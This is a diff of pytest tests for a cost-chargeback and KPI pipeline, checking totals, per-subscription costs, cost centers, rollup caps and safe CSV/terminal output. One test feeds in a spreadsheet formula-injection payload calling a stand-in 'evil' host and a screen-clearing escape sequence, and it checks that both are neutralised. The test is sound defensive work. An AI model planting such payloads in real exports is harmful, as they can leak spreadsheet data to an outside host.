@@ -206,7 +206,10 @@ def test_lines_sum_to_the_total_and_the_total_is_the_kpi_reports(
     assert total["succeeded"] == kpi["Succeeded"]
     assert total["totalTokens"] == kpi["TotalTokens"] and total["totalTokens"] > 0
     assert total["unpricedCalls"] == kpi["UnpricedCalls"] > 0  # custom-ft has no price
-    assert abs(total["costUsd"] - kpi["CostUsd"]) <= 1e-6 and total["costUsd"] > 0
+    # Equal, not close: the same days' costs summed the same way.
+    assert total["costUsd"] == kpi["CostUsd"] and total["costUsd"] > 0
+    costs = [ln["costUsd"] for ln in doc["lines"]]
+    assert costs == sorted(costs, reverse=True)  # largest first
 
 
 def test_each_team_gets_the_calls_its_first_matching_rule_gives_it(
@@ -336,3 +339,109 @@ def test_the_map_can_live_in_a_blob(store: Store) -> None:
     assert teams.version == "2025-11-01" and len(teams.rules) == len(MAP["rules"])
     with pytest.raises(attribution.AttributionError, match="expected blob:CONTAINER/NAME"):
         attribution.load("blob:no-name", read_blob=store.read_blob)
+
+
+def test_packed_usage_rows_round_trip_over_several_entities() -> None:
+    """A day of 40,000 users is several entities of several 60 KiB parts: the rows come back
+    as they went in, in order, with the day and the versions."""
+    from pipeline.kpi import packed
+
+    rng = random.Random(4)
+    rows = [
+        {"CallerUserId": f"user-{rng.getrandbits(64):016x}", "Calls": i, "CostUsd": rng.random()}
+        for i in range(40_000)
+    ]
+    entities = packed.pack("2025-11-04", "user", rows, {"PriceTableVersion": "v1"})
+    assert len(entities) >= 2 and all(e["RowKey"].startswith("u:") for e in entities)
+    parts = [k for e in entities for k in e if k.startswith("Data")]
+    assert len(parts) > packed.PARTS_PER_ENTITY
+    back = list(packed.unpack(entities))
+    assert [{k: r[k] for k in ("CallerUserId", "Calls", "CostUsd")} for r in back] == rows
+    assert back[0]["PartitionKey"] == "2025-11-04" and back[0]["PriceTableVersion"] == "v1"
+
+
+def test_each_subscriptions_cost_is_the_kpi_reports(
+    loaded: tuple[Config, list[dict[str, Any]]],
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """A line's cost, not only the total: by subscription, each line is the `kpi` report's
+    line for that subscription (KpiDaily groups: another table, another path)."""
+    cfg, _ = loaded
+    doc = chargeback_json(cfg, monkeypatch, capsys, "subscription")
+    capsys.readouterr()
+    period = ["--from", str(DAYS[0]), "--to", str(DAYS[-1])]
+    assert (
+        run_cli(cfg, monkeypatch, "kpi", *period, "--by", "subscription", "--format", "json") == 0
+    )
+    kpi = {ln["SubscriptionId"]: ln for ln in orjson.loads(capsys.readouterr().out)}
+    assert {ln["group"] for ln in doc["lines"]} == set(kpi) - {"TOTAL"}
+    for line in doc["lines"]:
+        want = kpi[line["group"]]
+        assert abs(line["costUsd"] - want["CostUsd"]) <= 1e-6, line["group"]
+        assert (line["calls"], line["totalTokens"]) == (want["Calls"], want["TotalTokens"])
+
+
+def test_a_team_with_two_cost_centers_names_both(
+    store: Store, cfg: Config, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
+) -> None:
+    rules = {
+        "rules": [
+            {"team": "Claims", "costCenter": "CC-4100", "match": {"product": "genai-gold"}},
+            {"team": "Claims", "costCenter": "CC-4200", "match": {"product": "genai-silver"}},
+        ]
+    }
+    path = tmp_path / "map.json"
+    path.write_bytes(orjson.dumps(rules))
+    cfg = Config(**{**_fields(cfg), "attribution": str(path)})
+    events = [EventIn(message(c)) for c in corpus(seed=9)[:40]]
+    process_batch(events, cfg, store)
+    daily.roll_up(DAYS, cfg, store)
+    doc = chargeback_json(cfg, monkeypatch, capsys, "team")
+    (claims,) = [ln for ln in doc["lines"] if ln["group"] == "Claims"]
+    assert claims["costCenter"] == "CC-4100,CC-4200"
+
+
+def test_made_up_model_names_cannot_grow_the_rollup_with_the_calls() -> None:
+    """A client names the model of some routes: 3,000 distinct names in a day keep the
+    first MAX_VALUES_PER_DAY as groups and count the rest as (other); nothing is lost."""
+    from datetime import UTC, datetime
+
+    from pipeline.kpi import prices, rollup
+
+    def rows() -> Any:
+        for i in range(3_000):
+            yield {
+                "Deployment": "chat",
+                "Model": f"made-up-{i}",
+                "Status": 200,
+                "CallTime": datetime(2025, 11, 4, 10, tzinfo=UTC),
+                "PromptTokens": 10,
+                "CompletionTokens": 5,
+                "TotalTokens": 15,
+            }
+
+    rolled = rollup.rollup_day(rows(), DAYS[1], prices.load(""))
+    models = {e.get("Model") for e in rolled.daily if e["RowKey"] != rollup.TOTAL_KEY}
+    assert len(models) == rollup.MAX_VALUES_PER_DAY + 1 and rollup.OTHER in models
+    assert rolled.daily[-1]["Calls"] == 3_000
+    (other,) = [e for e in rolled.daily if e.get("Model") == rollup.OTHER]
+    assert other["Calls"] == 3_000 - rollup.MAX_VALUES_PER_DAY
+
+
+def test_hostile_group_names_are_inert_in_csv_and_on_the_terminal() -> None:
+    folded = chargeback.Folded()
+    for name in ('=HYPERLINK("http://evil/?"&A1,"x")', "ok\x1b[2Jcleared", "+1", "plain"):
+        sums = folded.groups[name] = chargeback.Sums()
+        sums.measures["calls"] = 1
+    doc = chargeback.report(folded, "deployment", DAYS[0], DAYS[-1])
+    text = chargeback.as_csv(doc)
+    lines = text.splitlines()
+    assert not [ln for ln in lines if ln.lstrip('"').startswith(("=", "+", "-", "@"))]
+    assert "'=HYPERLINK" in text and "\n'+1," in text and "\nplain," in text
+    table = chargeback.as_table(doc)
+    assert "\x1b" not in table and "\\x1b[2Jcleared" in table
+    with pytest.raises(attribution.AttributionError, match="Unattributed"):
+        attribution.parse(
+            orjson.dumps({"rules": [{"team": "Unattributed", "match": {"user": "u"}}]})
+        )
